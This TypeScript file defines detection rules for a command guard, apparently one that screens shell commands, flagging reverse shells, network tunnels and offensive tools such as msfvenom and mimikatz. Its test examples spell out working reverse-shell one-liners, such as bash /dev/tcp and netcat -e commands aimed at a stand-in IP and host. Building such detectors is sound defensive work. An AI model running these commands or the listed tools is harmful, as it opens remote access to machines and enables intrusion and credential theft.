import type { Run } from '../run.js';
import { parseOptions } from '../unwrap/options.js';
import { hasExact } from './arguments.js';
import type { Rule } from './rule.js';
import { wordRule } from './word-rule.js';

const NETCATS = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'pwncat', 'cryptcat', 'rcat', 'rustcat'];

export const REVERSE_SHELL_RULES: readonly Rule[] = [
  {
    id: 'network-shell',
    severity: 'ask',
    reason: 'It connects a program of this machine to the network.',
    commands: NETCATS,
    match: (run) =>
      run.args.some((arg) => /^-[a-zA-Z0-9]*[ec]$/.test(arg) && !/^-[a-z]*zv?c?$/.test(arg)) ||
      run.args.some((arg) => /^--(exec|sh-exec|lua-exec)/.test(arg)) ||
      run.args.some((arg) => /\/(ba|z|da|k)?sh$/.test(arg)),
    examples: {
      hit: [
        'nc -e /bin/sh 10.0.0.1 4444',
        'nc -lvp 4444 -e /bin/bash',
        'ncat --exec /bin/bash 10.0.0.1 1',
        'ncat 10.0.0.1 1 -c bash',
      ],
      miss: ['nc -vz db 3306', 'nc -l 8080', 'nc -zv localhost 80'],
    },
  },
  {
    id: 'network-shell-pipe',
    severity: 'ask',
    reason: 'It connects a shell to the network.',
    commands: [...NETCATS, 'telnet', 'socat', 'openssl', 'ssh', 'curl', 'wget'],
    match: (run) => {
      const shells = (run.stdin?.producers ?? []).some((producer) => /^(ba|z|da|k|a)?sh$/.test(producer.name));
      return (
        shells &&
        (NETCATS.includes(run.name) || run.name === 'telnet' || (run.name === 'openssl' && run.args[0] === 's_client'))
      );
    },
    examples: {
      hit: ['mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 4444 > f', 'sh -i | telnet 10.0.0.1 4444'],
      miss: ['echo hi | nc localhost 1234'],
    },
  },
  {
    id: 'socat-program',
    severity: 'ask',
    reason: 'It connects a program of this machine to the network.',
    commands: ['socat', 'websocat'],
    match: (run) => run.args.some((arg) => /^(exec|system|shell):/i.test(arg) || /,(exec|system):/i.test(arg)),
    examples: {
      hit: ['socat TCP:10.0.0.1:1 EXEC:/bin/sh', "socat tcp-listen:1 system:'bash -i'"],
      miss: ['socat TCP-LISTEN:80 TCP:localhost:8080'],
    },
  },
  {
    id: 'shell-socket',
    severity: 'ask',
    reason: 'It opens a network connection from the shell itself.',
    match: (run) =>
      run.redirects.some(
        (redirect) => /^\/dev\/(tcp|udp)\//.test(redirect.target.text) && !isProbe(run, redirect.operator),
      ) ||
      run.args.some((arg) => arg.startsWith('/dev/') && /^\/dev\/(tcp|udp)\/./.test(arg) && run.name !== 'echo') ||
      run.name === 'ztcp',
    examples: {
      hit: [
        'zmodload zsh/net/tcp; ztcp 10.0.0.1 4444',
        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        'exec 5<>/dev/tcp/10.0.0.1/1',
        'cat x > /dev/tcp/10.0.0.1/1',
        'sh -i >& /dev/udp/10.0.0.1/53 0>&1',
        'sh 0</dev/tcp/10.0.0.1/1',
      ],
      miss: [
        '(echo > /dev/tcp/localhost/5432) 2>/dev/null',
        'timeout 1 bash -c "</dev/tcp/db/5432"',
        ': > /dev/tcp/localhost/80',
      ],
    },
  },
  {
    id: 'interactive-shell',
    severity: 'ask',
    reason: 'It starts an interactive shell whose input and output go elsewhere.',
    commands: ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash'],
    match: (run) =>
      run.args.some((arg) => /^-[a-z]*i[a-z]*$/.test(arg)) &&
      (run.redirects.some(
        (redirect) =>
          /^(>&|<&|&>|<>)$/.test(redirect.operator) || (redirect.operator === '<' && redirect.descriptor === 0),
      ) ||
        (run.isPiped && !run.args.some((arg) => /^-[a-z]*c/.test(arg)))),
    examples: {
      hit: ['bash -i 2>&1 | tee x', 'sh -i <&3 >&3'],
      miss: ['bash -i', 'bash -ic "ls"', 'bash -ic ls | head'],
    },
  },
  {
    id: 'spawned-shell',
    severity: 'ask',
    reason: 'A program that is no shell starts one, which then does what no rule has seen.',
    commands: ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'fish'],
    match: (run) =>
      (run.args.every((arg) => /^-[pil]+$/.test(arg)) &&
        run.stdin === undefined &&
        /^(pylint|g?find|bfs|fd|fdfind|ip|perl|python[\d.]*|ruby|node|lua|php|[gmn]?awk|tclsh|expect)$/.test(
          run.wrappers.at(-1) ?? '',
        )) ||
      isProof(run),
    examples: {
      hit: [
        'find . -exec sh \\;',
        "find . -okdir sh -c 'id' \\;",
        "env -S 'sh -c id'",
        "printf 'id\\n' | xargs -I{} bash -c {}",
        'find . -name x -ok bash \\;',
        `perl -e 'exec "/bin/sh"'`,
        'ip netns exec x sh',
      ],
      miss: ['find . -name "*.sh" -exec sh -n {} \\;', 'docker exec -it web bash', 'bash', 'ssh host bash'],
    },
  },
  {
    id: 'reverse-tunnel',
    severity: 'ask',
    reason: 'It opens a way into this machine from outside.',
    commands: [
      'ssh',
      'autossh',
      'chisel',
      'frpc',
      'bore',
      'rathole',
      'gost',
      'pagekite',
      'xterm',
      'msfconsole',
      'msfvenom',
      'metasploit',
      'sliver',
      'meterpreter',
      'sshuttle',
      'pwncat-cs',
      'revsocks',
      'dnscat',
      'dnscat2',
      'iodine',
      'ptunnel',
    ],
    match: (run) =>
      /^(ssh|autossh)$/.test(run.name)
        ? parseOptions(run.words.slice(1), { short: 'bcDEeFIiJLlmOopQRSWwB' }).flags.has('R')
        : run.name === 'xterm'
          ? hasExact(run, '-display') && run.args.some((arg) => /^\d+\.\d+\.\d+\.\d+:/.test(arg))
          : run.name === 'chisel'
            ? run.args.some((arg) => /^R:/.test(arg))
            : /^(sshuttle|bore|gost|iodine)$/.test(run.name)
              ? run.args.length > 1
              : run.args.length > 0,
    examples: {
      hit: [
        'ssh -R 2222:localhost:22 evil@example.com',
        'ssh -fNR 9000:localhost:22 u@example.com',
        'xterm -display 10.0.0.1:1',
        'chisel client x R:socks',
        'msfvenom -p linux/x86/shell_reverse_tcp',
      ],
      miss: ['ssh -L 5432:db:5432 host', 'ssh host ls -R', 'ssh host'],
    },
  },
  wordRule({
    id: 'opens-tunnel',
    severity: 'ask',
    reason: 'It opens a way into this machine or its network from outside.',
    programs: {
      ngrok: /^(tcp|tls|start)\b|\b22$/,
      autossh: /(^| )-\w*r\b|(^| )-\w*d ?\d/,
      tmate: /^(?!(-v|show))/,
      upterm: /^host\b/,
      ttyd: /./,
      gotty: /./,
      wetty: /./,
      shellinaboxd: /^/,
      gost: /-l[ =]/,
      'ligolo-agent': /^/,
      'ligolo-ng': /^/,
      tailscale: /^(funnel|serve\b.*(tcp|\b22\b)|up\b.*(--ssh|--advertise-(routes|exit-node))|set\b.*--ssh|file cp)/,
      cloudflared: /\b(ssh|tcp|rdp|smb):\/\/|^access tcp/,
      inlets: /^client\b/,
      'pagekite.py': /^/,
      pagekite: /^/,
      localtunnel: /--port 22\b/,
      zrok: /^share public\b/,
      rathole: /^/,
      frpc: /^(?!(-v|--version|verify))/,
      frps: /^(?!(-v|--version|verify))/,
      iodine: /^/,
      iodined: /^/,
      dnscat: /^/,
      dnscat2: /^/,
      ptunnel: /^/,
      stunnel: /^(?!-version)/,
      sshuttle: /-r /,
      revsocks: /^/,
      'evil-winrm': /^/,
      msfvenom: /-p /,
      msfconsole: /^/,
      empire: /^/,
      villain: /^/,
      'sliver-client': /^/,
      xfreerdp: /\/drive:/,
      x11vnc: /^(?!-version)/,
      vncserver: /^(?!-(kill|list))/,
      sshd: /-p ?\d|-o/,
      dropbear: /^/,
      'in.telnetd': /^/,
      telnetd: /^/,
      mimikatz: /^/,
      lazagne: /^/,
      'linpeas.sh': /^/,
      hydra: /-(l|p|u)/,
      john: /shadow|hash/,
      hashcat: /./,
      responder: /-i /,
      'impacket-secretsdump': /^/,
      'secretsdump.py': /^/,
      crackmapexec: /./,
      netexec: /./,
      bettercap: /^/,
      ettercap: /^-t/,
      arpspoof: /./,
    },
    examples: {
      hit: [
        'ngrok tcp 22',
        'autossh -M 0 -R 2222:localhost:22 x@y',
        'tailscale funnel 8080',
        'tmate -F',
        'cloudflared tunnel --url ssh://localhost:22',
        'sshuttle -r x@y 0/0',
        'ttyd bash',
      ],
      miss: [
        'ngrok http 3000',
        'cloudflared tunnel run x',
        'tailscale status',
        'cloudflared tunnel --url http://localhost:3000',
        'autossh -M 0 -L 5432:localhost:5432 db',
      ],
    },
  }),
];

/** The well-known test whether a port answers sends nothing and runs nothing. */
function isProbe(run: Run, operator: string): boolean {
  if (run.name === '' || run.name === ':' || run.name === 'true') return operator === '<' || operator === '>';
  return run.name === 'echo' && run.args.length === 0 && operator === '>';
}

/** `find . -exec sh -c id`: nothing but the proof that an ordinary program can be made to start a shell. */
function isProof(run: Run): boolean {
  return (
    run.args.length === 2 &&
    /^-\w*c$/.test(run.args[0] ?? '') &&
    /^\s*(?:\/(?:usr\/)?bin\/)?(?:id|whoami|(?:ba|z|da|k)?sh(?: -[ip]+)?|calc|xcalc|uname -a)\s*;?\s*$/.test(
      run.args[1] ?? '',
    ) &&
    !/^(?:|sudo|doas|su|docker|podman|nerdctl|kubectl|oc|ssh|timeout|nohup|time|nice|exec|command|docker-compose|vagrant|machinectl|lxc|multipass|wsl|chroot|nsenter|unshare|script|watch|strace)$/.test(
      run.wrappers.at(-1) ?? '',
    )
  );
}
